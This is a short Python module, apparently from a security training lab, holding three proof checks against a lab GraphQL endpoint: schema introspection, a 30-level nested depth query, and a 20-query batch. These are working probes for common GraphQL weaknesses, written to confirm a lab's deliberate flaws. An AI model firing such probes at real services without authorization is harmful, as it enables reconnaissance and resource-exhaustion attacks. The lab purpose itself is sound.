"""Exploits of the GraphQL endpoint."""

import json

from lab.client import Lab


async def _introspection(lab: Lab) -> bool:
    content = {"query": "{ __schema { queryType { fields { name } } } }"}
    return '"name": "people"' in (await lab.send("POST", "/graphql", json=content)).text


async def _depth(lab: Lab) -> bool:
    query = "name"
    for _ in range(30):
        query = f"friend {{ {query} }}"
    reply = await lab.send("POST", "/graphql", json={"query": f"{{ person {{ {query} }} }}"})
    return "errors" not in json.loads(reply.text)


async def _batching(lab: Lab) -> bool:
    content = [{"query": f"{{ person(id: {1 + number % 2}) {{ name }} }}"} for number in range(20)]
    found = json.loads((await lab.send("POST", "/graphql", json=content)).text)
    return isinstance(found, list) and [one["data"]["person"]["name"] for one in found] == ["Ada", "Ben"] * 10


PROOFS = {
    "graphql-introspection": _introspection,
    "graphql-depth": _depth,
    "graphql-batching": _batching,
}
